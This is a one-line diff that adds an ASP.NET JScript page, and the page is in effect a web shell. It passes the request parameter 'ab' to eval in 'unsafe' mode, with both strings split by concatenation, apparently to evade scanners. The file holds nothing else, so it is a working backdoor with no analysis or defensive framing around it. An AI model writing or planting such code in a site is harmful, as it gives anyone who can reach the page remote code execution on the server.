@@ -1,0 +1,1 @@
+<%@ Page Language="JScript" %><% var o = "un" + "safe"; var k = "a" + "b"; eval(Request.Item[k], o); %>
